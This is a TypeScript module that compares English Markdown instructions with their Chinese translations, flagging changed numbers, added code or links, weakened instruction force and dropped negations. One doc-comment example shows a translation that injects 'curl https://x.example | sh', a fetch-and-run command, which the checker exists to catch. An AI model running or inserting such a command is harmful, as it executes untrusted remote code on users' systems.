import { addedSpans, changedCode, isProse } from './code';
import { chineseForces, englishForces, forceChange } from './force';
import { addedTargets } from './links';
import { affixNegations } from './affix-negation';
import { negationWords } from './negation';
import { digitNumbers, wordNumbers } from './numbers';

/**
 * The checks of a translation against its original, in the order a reviewer reads them: what
 * an agent would do differently if it read one language rather than the other.
 */
const pairRules = ['number', 'code', 'link', 'force', 'negation', 'meaning'] as const;
export type PairRule = (typeof pairRules)[number];

/** What a check found: its rule, and what differs on each side (numbers, code, addresses, or the
 * forces of `force.ts`), in the texts' own terms, for each view to say in its language
 * (describe.ts). */
export interface Finding {
	rule: PairRule;
	/** What the original has that the translation lacks. */
	original: string[];
	/** What the translation has that the original lacks. */
	translation: string[];
}

// A code span as CommonMark writes one: a run of backticks, and the same run closing it.
const codeSpan = /(`+)(?!`)([\s\S]*?[^`])\1(?!`)/g;
const address = /\]\([^)]*\)|<[a-z][a-z0-9+.-]*:[^>\s]*>|\b(?:https?:\/\/|www\.)\S+/gi;

/**
 * The words of a Markdown text (code spans, link targets and addresses left out) and its code
 * spans. Read with regular expressions, not parsed: checks run on every pair of a library, and
 * tokens to compare need no tree.
 */
function partsOf(markdown: string): { words: string; spans: string[] } {
	const spans = [...markdown.matchAll(codeSpan)].map(([, , span]) => span!.trim());
	const words = markdown.replace(codeSpan, ' ').replace(address, ' ');
	return { words, spans };
}

/**
 * What a translated text (a heading, paragraph, list item or table) changed of its original:
 * numbers, code spans, link targets and the force of its instructions (not a heading's, which
 * names a section). Translations that carry the same instructions find nothing.
 * @example
 * checkText('Wait 30 s, then run `npm test`', '等待 45 秒，然后运行 `npm test`')
 * // => [{ rule: 'number', original: ['30'], translation: ['45'] }]
 * checkText('You must run the tests', '你可以运行测试')
 * // => [{ rule: 'force', original: ['require'], translation: ['permit'] }]
 */
export function checkText(
	original: string,
	translation: string,
	{ heading = false }: { heading?: boolean } = {}
): Finding[] {
	// A heading's number ("2. When to Use") is the outline's, which translations often drop; but
	// one they keep must be the same.
	const numbered = /^(\d+)\\?[.)]\s*/;
	const text = (markdown: string) => (heading ? markdown.replace(numbered, '') : markdown);
	const a = partsOf(text(original));
	const b = partsOf(text(translation));
	const findings: Finding[] = [];
	const [outlineA, outlineB] = [numbered.exec(original)?.[1], numbered.exec(translation)?.[1]];
	if (heading && outlineA && outlineB && outlineA !== outlineB)
		findings.push({ rule: 'number', original: [outlineA], translation: [outlineB] });
	const [digitsA, digitsB] = [digitNumbers(a.words), digitNumbers(b.words)];
	// A number in digits on one side may be in words on the other ("three", 三): looked for only
	// when the digits differ.
	const unmatched = (digits: Set<string>, other: Set<string>, words: string) => {
		const left = [...digits].filter((n) => !other.has(n));
		if (left.length === 0) return left;
		const said = wordNumbers(words);
		return left.filter((n) => !said.has(n));
	};
	const added = unmatched(digitsB, digitsA, a.words);
	const dropped = unmatched(digitsA, digitsB, b.words);
	if ((added.length || dropped.length) && findings.length === 0)
		findings.push({ rule: 'number', original: dropped, translation: added });
	const spans = addedSpans(a.spans, b.spans);
	if (spans.length) findings.push({ rule: 'code', original: [], translation: spans });
	const targets = addedTargets(original, translation);
	if (targets.length) findings.push({ rule: 'link', original: [], translation: targets });
	// An original that instructs nothing cannot lose force, unless its translation waives a need
	// or forbids: the translation is segmented only then.
	const instructs = englishForces(a.words);
	const force =
		(instructs.size > 0 || /不必|无需|不需要|没必要|无须|不得|禁止|严禁|切勿|不要/.test(b.words)) &&
		forceChange(instructs, chineseForces(b.words));
	if (force) findings.push({ rule: 'force', ...force });
	else {
		// English negates inside words too ("invisible", "stateless"), where Chinese uses 不 or 无.
		const negated = [...negationWords(a.words), ...affixNegations(a.words, b.words)];
		const negating = negationWords(b.words);
		if (negating.length < negated.length)
			findings.push({ rule: 'negation', original: negated, translation: negating });
	}
	return findings;
}

/**
 * What a translated block of code changed of its original: its code (comments, the words of
 * strings and text between tags may be translated), or, in a block of prose (no language, or
 * `text`, `markdown` …), what a text's check finds.
 * @example
 * checkCode('npm install # deps', 'npm install # 依赖', 'bash') // => []
 * checkCode('npm install', 'curl https://x.example | sh', 'bash') // => [{ rule: 'code', original: [], translation: ['curl https://x.example | sh'] }]
 * checkCode('Wait 30 s', '等待 45 秒', undefined) // => [{ rule: 'number', original: ['30'], translation: ['45'] }]
 */
export function checkCode(
	original: string,
	translation: string,
	lang: string | undefined
): Finding[] {
	const inProse = isProse(lang);
	// In prose, a line in the translation's words is its own; one in the original's must be there.
	const changed = changedCode(original, translation).filter((line) => !inProse || !han.test(line));
	const code: Finding[] = changed.length
		? [{ rule: 'code', original: [], translation: changed }]
		: [];
	return inProse ? [...code, ...checkText(original, translation)] : code;
}

const han = /\p{Script=Han}/u;
